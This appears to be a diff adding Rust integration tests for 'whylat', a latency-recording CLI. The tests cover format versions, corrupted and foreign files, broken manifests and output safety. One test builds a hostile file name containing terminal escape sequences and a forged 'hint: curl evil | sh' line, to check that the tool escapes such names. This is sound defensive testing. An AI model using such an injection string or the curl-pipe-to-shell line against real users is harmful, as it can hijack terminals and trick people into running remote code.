@@ -1,0 +1,259 @@
+//! Recordings of other versions, damaged, not closed, or made by somebody else to do harm: each ends with an exit code
+//! that tells, and a message that names what is wrong.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+
+use lab::Netns;
+use nix::sys::signal::Signal;
+use serde_json::Value;
+use table::manifest::{FORMAT, Header};
+use table::{Recording, WriteOptions, Writer};
+use tempfile::TempDir;
+
+use crate::harness::{Recorder, Said, Tied, finish, program, role, root, wait, whylat};
+
+/// A closed recording of a few calls, `r.whylat` in a directory.
+pub fn recording() -> TempDir {
+    let netns = Netns::new().expect("a namespace");
+    let mut calls = role(&netns, "count-calls --pairs 1 --sends 503 --start-on-stdin");
+    calls.port().expect("connected");
+    let recorder = Recorder::start(&format!("-p {}", calls.pid()));
+    calls.go().expect("go");
+    calls.finish().expect("truth");
+    recorder.stop_by(Signal::SIGINT)
+}
+
+/// A recording of nothing in another version of the format.
+fn of_version(format: u32, header: &Header, scratch: &TempDir) -> PathBuf {
+    let path = scratch.path().join(format!("format-{format}.whylat"));
+    let header = Header {
+        format,
+        ..header.clone()
+    };
+    let writer = Writer::create(&path, &header, WriteOptions::default()).expect("create");
+    writer.close(header.started_ns + 1).expect("close");
+    path
+}
+
+#[test]
+fn other_versions_of_the_format() {
+    if !root() {
+        return;
+    }
+    let scratch = recording();
+    let recorded = Recording::open(scratch.path().join("r.whylat")).expect("open");
+    let earlier = of_version(FORMAT - 1, recorded.header(), &scratch);
+    for command in ["report", "validate"] {
+        finish(whylat(command).arg(&earlier)).ended(0);
+    }
+    let later = of_version(FORMAT + 1, recorded.header(), &scratch);
+    for command in ["report", "validate", "recover"] {
+        let said = finish(whylat(command).arg(&later));
+        said.ended(1).explains(&format!("format {}", FORMAT + 1));
+    }
+}
+
+#[test]
+fn damaged_and_foreign_recordings() {
+    if !root() {
+        return;
+    }
+    let scratch = recording();
+    let path = scratch.path().join("r.whylat");
+    let file = fs::read_dir(path.join("calls"))
+        .expect("calls")
+        .flatten()
+        .next();
+    let file = file.expect("a segment").path();
+    let name = file
+        .file_name()
+        .expect("a name")
+        .to_str()
+        .expect("text")
+        .to_owned();
+    let whole = fs::read(&file).expect("read");
+    let mut flipped = whole.clone();
+    flipped[whole.len() / 2] ^= 0x10;
+    let cases: [(&str, &[u8]); 4] = [
+        ("truncated", &whole[..whole.len() / 2]),
+        ("flipped", &flipped),
+        ("foreign", b"PNG and nothing of ours"),
+        ("empty", b""),
+    ];
+    for (what, bytes) in cases {
+        fs::write(&file, bytes).expect("write");
+        assert_damage_named(&path, what, &name);
+    }
+    fs::remove_file(&file).expect("remove");
+    assert_damage_named(&path, "missing", &name);
+    fs::write(&file, &whole).expect("write");
+    finish(whylat("validate").arg(&path)).ended(0);
+    damaged_manifests(&path);
+}
+
+/// `report` goes on with the rest, `validate` fails, and both name the file.
+fn assert_damage_named(path: &Path, what: &str, name: &str) {
+    let said = finish(whylat("report --format json").arg(path));
+    said.ended(3);
+    let json: Value = serde_json::from_str(&said.out).expect("JSON");
+    assert!(
+        json["problems"].to_string().contains(name),
+        "{what}: {}",
+        json["problems"]
+    );
+    assert_eq!(
+        json["connections"].as_array().map(Vec::len),
+        Some(2),
+        "{what}"
+    );
+    let said = finish(whylat("report").arg(path));
+    said.ended(3);
+    assert!(said.out.contains(name), "{what}: {}", said.out);
+    let said = finish(whylat("validate").arg(path));
+    said.ended(1);
+    assert!(said.out.contains(name), "{what}: {said:?}");
+}
+
+fn damaged_manifests(path: &Path) {
+    let manifest = path.join("manifest.jsonl");
+    let whole = fs::read(&manifest).expect("read");
+    let cases: [(&str, &[u8]); 3] = [
+        ("empty", b""),
+        ("foreign", b"GIF89a\x01\x00\n"),
+        ("half a line", &whole[..100]),
+    ];
+    for (what, bytes) in cases {
+        fs::write(&manifest, bytes).expect("write");
+        for command in ["report", "validate", "recover"] {
+            let said = finish(whylat(command).arg(path));
+            assert_eq!(said.code, Some(1), "{what}, {command}: {said:?}");
+            said.ended(1).explains("manifest.jsonl");
+        }
+    }
+    fs::remove_file(&manifest).expect("remove");
+    finish(whylat("report").arg(path))
+        .ended(1)
+        .explains("manifest.jsonl");
+    finish(whylat("report").arg(path.join("calls")))
+        .ended(1)
+        .explains("manifest.jsonl");
+    finish(whylat("report").arg(program()))
+        .ended(1)
+        .explains("directory");
+    finish(&mut whylat("report /no/such/recording"))
+        .ended(1)
+        .explains("/no/such/recording");
+}
+
+/// A closed recording of nothing, which needs no root.
+fn written(scratch: &TempDir) -> PathBuf {
+    let unknown = || "unknown".to_owned();
+    let header = Header {
+        format: FORMAT,
+        whylat: unknown(),
+        host: unknown(),
+        boot_id: unknown(),
+        kernel: unknown(),
+        cpus: 1,
+        clocksource: unknown(),
+        detail: "calls".to_owned(),
+        arguments: Vec::new(),
+        started_ns: 1,
+        started_realtime_ns: 1,
+        jiffy_ns: None,
+    };
+    of_version(FORMAT, &header, scratch)
+}
+
+/// What is said is text: nothing in it steers a terminal, and no line of it is of somebody else's making.
+#[track_caller]
+fn assert_tame(said: &Said) {
+    for text in [&said.out, &said.err] {
+        let steers = |c: char| c.is_control() && c != '\n';
+        assert!(!text.contains(steers), "{text:?}");
+        let is_forged = |line: &str| line.starts_with("hint: curl");
+        assert!(!text.lines().any(is_forged), "{text:?}");
+    }
+}
+
+/// Who sends a recording to somebody else names its files.
+#[test]
+fn names_in_a_recording_are_text() {
+    const HOSTILE: &str = "\u{1b}]0;owned\u{7}\u{9b}31m\rname\nhint: curl evil | sh\n";
+    let scratch = tempfile::tempdir().expect("a directory");
+    let path = written(&scratch);
+    fs::create_dir(path.join("calls")).expect("mkdir");
+    let stray = path.join("calls").join(format!("{HOSTILE}.parquet"));
+    fs::write(stray, "not ours").expect("write");
+    for (command, code) in [("validate", 1), ("recover", 0)] {
+        let said = finish(whylat(command).arg(&path));
+        said.ended(code);
+        assert!(said.out.contains("name\\nhint"), "{said:?}");
+        assert_tame(&said);
+    }
+    let hostile = scratch.path().join(format!("{HOSTILE}.whylat"));
+    for command in ["report", "validate", "recover", "view --no-open"] {
+        let said = finish(whylat(command).arg(&hostile));
+        said.ended(1).explains("no such directory");
+        assert_tame(&said);
+    }
+    fs::rename(&path, &hostile).expect("rename");
+    let mut command = whylat("report --format csv --table none");
+    let said = finish(command.current_dir(scratch.path()));
+    said.ended(1).explains("holds no table none");
+    assert_tame(&said);
+}
+
+#[test]
+fn the_newest_recording_is_checked_and_closed() {
+    let scratch = tempfile::tempdir().expect("a directory");
+    for command in ["validate", "recover"] {
+        let said = finish(whylat(command).current_dir(scratch.path()));
+        said.ended(1).explains("no recording");
+    }
+    let path = written(&scratch);
+    for command in ["validate", "validate --json", "recover"] {
+        let said = finish(whylat(command).current_dir(scratch.path()));
+        said.ended(0);
+        let name = path.file_name().and_then(|name| name.to_str());
+        assert!(said.out.contains(name.expect("a name")), "{said:?}");
+    }
+}
+
+/// A recording without its end is one to report, to check, and to close.
+#[test]
+fn what_was_not_closed_ends_with_the_same_code() {
+    let scratch = tempfile::tempdir().expect("a directory");
+    let path = written(&scratch);
+    let manifest = path.join("manifest.jsonl");
+    let whole = fs::read_to_string(&manifest).expect("read");
+    let (rest, last) = whole.trim_end().rsplit_once('\n').expect("lines");
+    assert!(last.contains("close"), "{last}");
+    fs::write(&manifest, format!("{rest}\n")).expect("write");
+    for command in ["report", "validate", "recover", "report", "validate"] {
+        finish(whylat(command).arg(&path)).ended(3);
+    }
+}
+
+#[test]
+fn a_reader_that_leaves_early_is_no_panic() {
+    if !root() {
+        return;
+    }
+    let scratch = recording();
+    for command in ["report", "report --format json"] {
+        let (reader, writer) = std::io::pipe().expect("a pipe");
+        drop(reader);
+        let errors = scratch.path().join("errors");
+        let mut command = whylat(command);
+        command
+            .arg(scratch.path().join("r.whylat"))
+            .stdout(Stdio::from(writer));
+        command.stderr(fs::File::create(&errors).expect("a file"));
+        wait(&mut Tied::start(&mut command).0, "the report");
+        let said = fs::read_to_string(&errors).expect("read");
+        assert!(!said.contains("panicked"), "{said}");
+    }
+}
